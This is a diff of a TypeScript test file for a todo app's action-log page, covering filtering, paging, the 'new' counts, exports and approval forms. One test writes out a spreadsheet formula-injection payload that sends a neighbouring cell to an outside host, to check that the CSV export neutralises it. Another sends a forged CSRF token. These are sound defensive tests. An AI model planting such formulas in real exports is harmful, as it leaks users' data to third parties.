@@ -1,174 +1,231 @@
-import { afterAll, expect } from "bun:test";
-import { SQL } from "bun";
-import { browserTest, callTool, signedInPerson, useSite } from "../../../support/pages/support.ts";
+import { afterEach, expect, test } from "bun:test";
+import { addDays } from "../../../../shared/domain/day/day.ts";
+import { useStack } from "../../../harness.ts";
+import {
+  callsOf,
+  cardsOf,
+  fieldsOf,
+  newPlainPerson,
+  textOf,
+  withForms,
+} from "../../../support/pages/plain.ts";
+import { query } from "../../../support/reminder/stack.ts";
 
-// Registered before the stack's own, so that it runs first: the stack counts connections.
-afterAll(() => sql.close());
-const site = await useSite();
-const { baseUrl, databaseUrl } = site.stack.config;
-const sql = new SQL(databaseUrl, { max: 1 });
+const stack = await useStack({ travels: true });
+const { databaseUrl } = stack.config;
+afterEach(() => {
+  stack.clock.now = undefined;
+});
 
-async function personWithAgent() {
-  const { page, newToken } = await signedInPerson(site);
-  const token = await newToken("Claude");
-  const call = (name: string, args: object = {}) => callTool(site, token, name, args);
-  const open = async (query = "") => {
-    await page.goto(`${baseUrl}/account/actions${query}`);
-    return page.locator(".log li.card").allInnerTexts();
+async function personWithAgent(app = "Claude") {
+  const person = await newPlainPerson(stack, app);
+  /** The texts of the list's cards. */
+  const open = async (search = "") => {
+    const page = await person.account.open(`/account/actions${search}`);
+    return cardsOf(page).map((card) => textOf({ ...page, text: `<li${card}` }).trim());
   };
-  return { page, token, call, open };
+  return { ...person, open };
 }
 
-browserTest(
-  "changes and refusals come first, and what was only looked at is one line that leads to it",
-  async () => {
-    const { page, call, open } = await personWithAgent();
-    await call("create-todo", { title: "Pay rent" });
-    for (let n = 0; n < 35; n++) await call("get-pending-todos");
-    await call("get-today-habits");
-    await call("delete-todo", { todo_id: 404 });
-    const [refused, created, folded, ...more] = await open();
-    expect(more).toEqual([]);
-    expect(refused).toContain("Tried to delete the todo 404");
-    expect(refused).toContain("It was told: Todo not found.");
-    expect(created).toContain("Created the todo Pay rent");
-    expect(folded).toBe("Claude: Looked at the pending todos 35 times; looked at the habits due today");
-    await page.locator(".folded a").click();
-    expect(await page.locator(".log li.card").count()).toBe(36);
-    await page.getByLabel("Show").selectOption("Everything");
-    await page.getByRole("button", { name: "Filter" }).click();
-    expect(await page.locator(".log li.card").count()).toBe(38);
-    await page.getByLabel("Show").selectOption("Refusals");
-    await page.getByRole("button", { name: "Filter" }).click();
-    expect(await page.locator(".log li.card").allInnerTexts()).toEqual([expect.stringContaining("404")]);
-  },
-);
+test("changes and refusals come first, and what was only looked at is one line that leads to it", async () => {
+  const { account, call, open } = await personWithAgent();
+  await call("create-todo", { title: "Pay rent" });
+  for (let n = 0; n < 35; n++) await call("get-pending-todos");
+  await call("get-today-habits");
+  await call("delete-todo", { todo_id: 404 });
+  const [refused, created, folded, ...more] = await open();
+  expect(more).toEqual([]);
+  expect(refused).toContain("Tried to delete the todo 404");
+  expect(refused).toContain("It was told: Todo not found.");
+  expect(created).toContain("Created the todo Pay rent");
+  expect(folded).toStartWith("Claude: Looked at the pending todos 35 times; looked at the habits due today");
+  const page = await account.open("/account/actions");
+  const reads = /class="card folded.*?href="([^"]+)"/s.exec(page.text)?.[1]?.replaceAll("&amp;", "&") ?? "";
+  expect(cardsOf(await account.open(reads))).toHaveLength(36);
+  expect([(await open("?show=all")).length, await open("?show=refusals")]).toEqual([
+    38,
+    [expect.stringContaining("404")],
+  ]);
+});
 
-browserTest("what was deleted last week is found by a word of its title, and by its day", async () => {
-  const { page, token, open } = await personWithAgent();
-  const rest = (method: string, path: string, body?: object) =>
-    site.stack.rest(method, path, { token, body });
-  const [created, deleted] = ["2026-11-14T22:30:00Z", "2026-11-14T23:30:00Z"];
-  const { body } = await rest("POST", "/todos", { title: "Zahnärztin anrufen" });
-  await rest("DELETE", `/todos/${body.id}`);
-  await sql`update action_log set called_at = case when tool = 'todo.create' then ${created}::timestamptz else ${deleted}::timestamptz end
-    where resource_name like 'Zahn%'`;
+test("the list is filtered by token, tool and outcome, and goes back page by page", async () => {
+  const { account, call, newToken, open } = await personWithAgent("Second");
+  await callsOf(stack, await newToken("First")).call("delete-todo", { todo_id: 404 });
+  for (let n = 0; n < 55; n++) await call("create-todo", { title: `Todo ${n}` });
+  // One card has all that one token did in a row.
+  expect(await open()).toHaveLength(2);
+  const page = await account.open("/account/actions?door=mcp");
+  expect([cardsOf(page).length, cardsOf(page)[0]]).toEqual([50, expect.stringContaining("Todo 54")]);
+  const older = /href="([^"]+)"[^>]*>Older</.exec(page.text)?.[1]?.replaceAll("&amp;", "&") ?? "";
+  const before = cardsOf(await account.open(older));
+  expect([before.length, before.at(-1)]).toEqual([
+    6,
+    expect.stringContaining("Tried to delete the todo 404"),
+  ]);
+  expect(await open("?tool=create-todo&show=all")).toHaveLength(50);
+  expect(await open("?outcome=not_found")).toEqual([expect.stringContaining("First")]);
+  const [, second = ""] = /<option value="([^"]+)"[^>]*>Second/.exec(page.text) ?? [];
+  expect(await open(`?outcome=not_found&token_id=${second}`)).toEqual([]);
+  const none = await account.open(`/account/actions?outcome=not_found&token_id=${second}`);
+  expect([second === "", textOf(none)]).toEqual([false, expect.stringContaining("No call matches.")]);
+});
+
+test("what was deleted last week is found by a word of its title, and by its day", async () => {
+  const { account, rest, open, sub } = await personWithAgent();
+  const settings = await account.open("/account/settings");
+  const day = { time_zone: "Europe/Berlin", day_start_hour: "0" };
+  await account.submit(settings, "/account/settings/day", day);
+  const { id } = await rest("POST", "/todos", { title: "Zahnärztin anrufen" });
+  await rest("DELETE", `/todos/${id}`);
+  const [lastWeek, dayBefore] = [7, 8].map((ago) => addDays(new Date().toISOString().slice(0, 10), -ago));
+  await query(
+    databaseUrl,
+    `update action_log set called_at = $2::timestamp at time zone 'Europe/Berlin'
+       + case when tool = 'todo.create' then interval '-30 minutes' else interval '30 minutes' end
+     where user_id = $1 and resource_name like 'Zahn%'`,
+    [sub, `${lastWeek} 00:00`],
+  );
   await rest("POST", "/todos", { title: "Buy milk" });
-  await open();
-  await page.getByLabel("Search").fill("zahnarztin");
-  await page.getByRole("button", { name: "Filter" }).click();
-  const cards = page.locator(".log li.card");
-  expect(await cards.allInnerTexts()).toEqual([
+  expect(await open("?q=zahnarztin")).toEqual([
     expect.stringMatching(/^00:30:00\s+Deleted the todo Zahnärztin anrufen/),
     expect.stringMatching(/^23:30:00\s+Created the todo Zahnärztin anrufen/),
   ]);
-  // The user's Sunday begins at 23:00 UTC.
-  expect(await open("?from=2026-11-15&to=2026-11-15")).toEqual([expect.stringContaining("Deleted the todo")]);
-  expect(await open("?to=2026-11-14")).toEqual([expect.stringContaining("Created the todo")]);
+  expect(await open(`?from=${lastWeek}&to=${lastWeek}`)).toEqual([expect.stringContaining("Deleted the")]);
+  expect(await open(`?to=${dayBefore}`)).toEqual([expect.stringContaining("Created the")]);
   expect(await open("?q=zahnarztin&from=0001-01-01&to=9999-12-31")).toHaveLength(2);
-  const response = await page.goto(`${baseUrl}/account/actions?from=2026-02-30`);
-  expect(response?.status()).toBe(422);
-  expect(await page.locator("main").innerText()).toContain("The from field must be a real date");
+  const refused = await account.open("/account/actions?from=2026-02-30");
+  expect(refused.status).toBe(422);
+  expect(textOf(refused)).toContain("The from field must be a real date");
 });
 
-browserTest("a change is told before and after, by whom, and leads to what it is about", async () => {
-  const { page, token, open } = await personWithAgent();
-  const today = new Date(Date.now() + 3_600_000).toISOString().slice(0, 10);
-  const { body } = await site.stack.rest("POST", "/todos", { token, body: { title: "Pay <b>rent</b>" } });
-  await site.stack.rest("PATCH", `/todos/${body.id}`, { token, body: { context: "@desk", due_date: today } });
-  await page.goto(`${baseUrl}/account`);
-  await page.getByRole("button", { name: "Done: Pay" }).click();
-  await page.getByText("Done: Pay").waitFor();
+test("a change is told before and after, by whom, and leads to what it is about", async () => {
+  const { account, rest, open } = await personWithAgent();
+  const { id } = await rest("POST", "/todos", { title: "Pay <b>rent</b>" });
+  await rest("PATCH", `/todos/${id}`, { context: "@desk" });
+  await account.submit(withForms(await account.open("/account"), "todo_id", id), "/account/tick", {
+    done: "yes",
+  });
   const [ticked, changed] = await open();
-  expect(ticked).toMatch(/Ticked off the todo Pay <b>rent<\/b>\s+.*You, on the Today page/s);
-  expect(changed).toMatch(/context none → @desk\s+.*Claude over REST/s);
-  await site.stack.rest("POST", `/todos/${body.id}/toggle`, { token });
-  await open();
-  await page.locator(".log a").first().click();
-  await page.waitForURL(`${baseUrl}/account/todos/${body.id}`);
-  expect(await page.getByLabel("Title").inputValue()).toBe("Pay <b>rent</b>");
+  expect(ticked).toMatch(/Ticked off the todo Pay &lt;b&gt;rent&lt;\/b&gt; .*You, on the Today page/);
+  expect(changed).toMatch(/context none → @desk .*Claude over REST/);
+  const [card = ""] = cardsOf(await account.open("/account/actions"));
+  const [, link = ""] = /<a href="([^"]+)"/.exec(card) ?? [];
+  expect(link).toBe(`/account/todos/${id}`);
+  expect(fieldsOf(await account.open(link), link)).toMatchObject({ title: "Pay <b>rent</b>" });
 });
 
-browserTest(
-  "what came since this browser's last visit is new for as long as the next one lasts",
-  async () => {
-    const { page, call, open } = await personWithAgent();
-    const news = async (minutesLater: number) => {
-      site.stack.clock.now = Date.now() + minutesLater * 60_000;
-      const cards = await open();
-      site.stack.clock.now = undefined;
-      return cards.filter((card) => card.includes("New")).map((card) => card.split("\n")[1]);
-    };
-    await call("create-todo", { title: "Before" });
-    expect(await news(0)).toEqual([]);
-    await call("create-todo", { title: "After" });
-    await page.goto(`${baseUrl}/account`);
-    await page.getByRole("button", { name: "Done: Before" }).click();
-    await page.getByText("Done: Before").waitFor();
-    expect(await news(1)).toEqual(["Created the todo After"]);
-    expect(await news(40)).toEqual([]);
-    await call("create-todo", { title: "Later" });
-    expect(await news(80)).toEqual(["Created the todo Later"]);
-    expect(await page.getByText("1 is new since your last visit.").count()).toBe(1);
-    expect(await news(90)).toEqual(["Created the todo Later"]);
-    expect(await news(130)).toEqual([]);
-  },
-);
+test("what came since this browser's last visit is new for as long as the next one lasts", async () => {
+  const { account, call } = await personWithAgent();
+  let shown = "";
+  const news = async (minutesLater: number) => {
+    stack.clock.now = Date.now() + minutesLater * 60_000;
+    const page = await account.open("/account/actions");
+    stack.clock.now = undefined;
+    shown = textOf(page);
+    const isNew = cardsOf(page).filter((card) => card.includes(">New<"));
+    return isNew.map((card) => /Created the todo (\w+)/.exec(textOf({ ...page, text: card }))?.[1]);
+  };
+  await call("create-todo", { title: "Before" });
+  expect(await news(0)).toEqual([]);
+  await call("create-todo", { title: "After" });
+  await account.submit(await account.open("/account"), "/account/tick", { done: "yes" });
+  expect(await news(1)).toEqual(["After"]);
+  expect(await news(40)).toEqual([]);
+  await call("create-todo", { title: "Later" });
+  expect(await news(80)).toEqual(["Later"]);
+  expect(shown).toContain("1 is new since your last visit.");
+  expect(await news(90)).toEqual(["Later"]);
+  expect(await news(130)).toEqual([]);
+});
 
-browserTest(
-  "what the filter shows can be had as CSV that no spreadsheet takes for formulas, and as JSON lines",
-  async () => {
-    const { page, token, call, open } = await personWithAgent();
-    const evil = `=HYPERLINK("http://example.com/"&A1,"Rent")`;
-    await call("create-todo", { title: evil });
-    await call("get-pending-todos");
-    await call("delete-todo", { todo_id: 404 });
-    await site.stack.rest("PATCH", "/todos/404", { token, body: { title: "+1" } });
-    await open("?show=all");
-    const [csvLink, jsonLink] = await page.locator("a[href*=export]").all();
-    const download = async (link: typeof csvLink) =>
-      page.request.get(`${baseUrl}${await link?.getAttribute("href")}`);
+test("beside Actions stands how many runs the person has not seen, on every page", async () => {
+  const { account, newToken, sub, ...claude } = await personWithAgent();
+  const script = callsOf(stack, await newToken("Script"));
+  const actionsOn = async (path: string) =>
+    /Actions( [\d+]+ new)?/.exec(textOf(await account.open(`/account${path}`)))?.[0];
+  const make = (by: typeof claude.rest, title: string) => by("POST", "/todos", { title });
+  await make(claude.rest, "before");
+  expect(await actionsOn("")).toBe("Actions");
+  await account.open("/account/actions");
+  expect(await actionsOn("/settings")).toBe("Actions");
+  for (const title of ["a", "b", "c"]) await make(claude.rest, title);
+  await claude.call("get-pending-todos");
+  expect(await actionsOn("/settings")).toBe("Actions 1 new");
+  await make(script.rest, "d");
+  await account.submit(await account.open("/account"), "/account/add", { line: "Mine" });
+  expect(await actionsOn("/todos")).toBe("Actions 2 new");
+  await query(
+    databaseUrl,
+    `insert into action_log (user_id, request_id, called_at, door, token_id, tool, arguments, outcome, replayed, calls, duration_ms)
+     select $1, gen_random_uuid(), now(), 'rest', 'token ' || n, 'todo.create', '{}', 'ok', false, 1, 1
+     from generate_series(1, 120) n`,
+    [sub],
+  );
+  expect(await actionsOn("/habits")).toBe("Actions 99+ new");
+  for (const path of ["/actions", "/todos"]) expect(await actionsOn(path)).toBe("Actions");
+});
 
-    const csv = await download(csvLink);
-    expect(csv.headers()["content-disposition"]).toMatch(
-      /^attachment; filename="kept-actions-[\d-]{10}\.csv"$/,
-    );
-    const cells = (await csv.text()).split(/\r\n|","/);
-    expect(cells).toContain(`'${evil.replaceAll('"', '""')}`);
-    expect(cells).toContain(`Created the todo “${evil.replaceAll('"', '""')}”`);
-    expect(cells.filter((cell) => /^"?\s*[=+@-]/.test(cell))).toEqual([]);
+test("what the filter shows can be had as CSV that no spreadsheet takes for formulas, and as JSON lines", async () => {
+  const { account, rest, call } = await personWithAgent();
+  const evil = `=HYPERLINK("http://example.com/"&A1,"Rent")`;
+  await call("create-todo", { title: evil });
+  await call("get-pending-todos");
+  await call("delete-todo", { todo_id: 404 });
+  await rest("PATCH", "/todos/404", { title: "+1" });
+  const { text } = await account.open("/account/actions?show=all");
+  const links = [...text.matchAll(/href="([^"]*export[^"]*)"/g)].map(([, link = ""]) => link);
+  const [csv, json] = await Promise.all(links.map((link) => account.open(link.replaceAll("&amp;", "&"))));
+  expect(csv?.headers.get("content-disposition")).toMatch(
+    /^attachment; filename="kept-actions-[\d-]{10}\.csv"$/,
+  );
+  const cells = csv?.text.split(/\r\n|","/) ?? [];
+  expect(cells).toContain(`'${evil.replaceAll('"', '""')}`);
+  expect(cells).toContain(`Created the todo “${evil.replaceAll('"', '""')}”`);
+  expect(cells.filter((cell) => /^"?\s*[=+@-]/.test(cell))).toEqual([]);
 
-    const lines = (await (await download(jsonLink)).text()).trimEnd().split("\n");
-    expect(
-      lines.map((line) => JSON.parse(line)).map(({ tool, outcome, what }) => [tool, outcome, what]),
-    ).toEqual([
-      ["todo.update", "not_found", "Tried to change the todo 404: title “+1”"],
-      ["delete-todo", "not_found", "Tried to delete the todo 404"],
-      ["get-pending-todos", "ok", "Looked at the pending todos"],
-      ["create-todo", "ok", `Created the todo “${evil}”`],
-    ]);
-    expect(Object.values(JSON.parse(lines[3] ?? "").after)).toMatchObject([{ title: evil }]);
-    expect((await page.request.get(`${baseUrl}/account/actions/export?format=exe`)).status()).toBe(422);
-  },
-);
+  const lines = (json?.text.trimEnd().split("\n") ?? []).map((line) => JSON.parse(line));
+  expect(lines.map(({ tool, outcome, what }) => [tool, outcome, what])).toEqual([
+    ["todo.update", "not_found", "Tried to change the todo 404: title “+1”"],
+    ["delete-todo", "not_found", "Tried to delete the todo 404"],
+    ["get-pending-todos", "ok", "Looked at the pending todos"],
+    ["create-todo", "ok", `Created the todo “${evil}”`],
+  ]);
+  expect(Object.values(lines[3].after)).toMatchObject([{ title: evil }]);
+  expect((await account.open("/account/actions/export?format=exe")).status).toBe(422);
+});
 
-browserTest("a file goes on along the list to its end, and its filters are those of the page", async () => {
-  const { page, token } = await personWithAgent();
+test("a file goes on along the list to its end, and its filters are those of the page", async () => {
+  const { account, answer } = await personWithAgent();
   for (let n = 0; n < 9; n++) {
-    const operations = Array.from({ length: 50 }, (_, i) => ({
-      method: "POST",
-      path: "/todos",
-      body: { title: `T${n}-${i}` },
-    }));
-    expect((await site.stack.rest("POST", "/batch", { token, body: { operations } })).status).toBe(200);
+    const titles = Array.from({ length: 50 }, (_, i) => `T${n}-${i}`);
+    const operations = titles.map((title) => ({ method: "POST", path: "/todos", body: { title } }));
+    expect((await answer("POST", "/batch", { operations })).status).toBe(200);
   }
-  const file = async (query: string) =>
-    (await (await page.request.get(`${baseUrl}/account/actions/export?format=jsonl${query}`)).text()).split(
-      "\n",
-    );
+  const file = async (filters: string) =>
+    (await account.open(`/account/actions/export?format=jsonl${filters}`)).text.split("\n");
   const names = (await file("")).slice(0, -1).map((line) => JSON.parse(line).resource_name);
-  expect(new Set(names).size).toBe(450);
-  expect(names[0]).toBe("T8-49");
+  expect([new Set(names).size, names[0]]).toEqual([450, "T8-49"]);
   expect((await file("&q=T3-")).length - 1).toBe(50);
   expect(await file("&show=refusals")).toEqual([""]);
+});
+
+test("chosen requests are declined together, and a form from elsewhere decides nothing", async () => {
+  const { account, rest } = await personWithAgent();
+  const titles = async () => (await rest("GET", "/todos")).data.map(({ title }: { title: string }) => title);
+  await rest("POST", "/todos", { title: "First" });
+  const agents = "/account/agents";
+  const saved = await account.submit(await account.open(agents), agents, { ask_above: "0" });
+  expect(textOf(saved)).toContain("Its rules are saved.");
+  for (const title of ["a", "b", "c"]) await rest("POST", "/todos", { title });
+  const path = "/account/approvals";
+  const page = await account.open(path);
+  const shownOn = ({ forms }: typeof page) =>
+    forms.flatMap(({ fields }) => fields.flatMap(([name, value]) => (name === "shown" ? [value] : [])));
+  const [a = "", b = "", c = ""] = shownOn(page);
+  const forged = await account.submit(page, path, { act: `approve ${a}`, csrf: "x.y" });
+  expect([forged.status, await titles()]).toEqual([403, ["First"]]);
+  const declined = await account.submit(page, path, { act: "decline chosen", approval_id: [a, c] });
+  expect(textOf(declined)).toContain("2 declined.");
+  expect(textOf(declined)).toContain("Create the todo b");
+  expect([shownOn(declined), await titles()]).toEqual([[b], ["First"]]);
 });
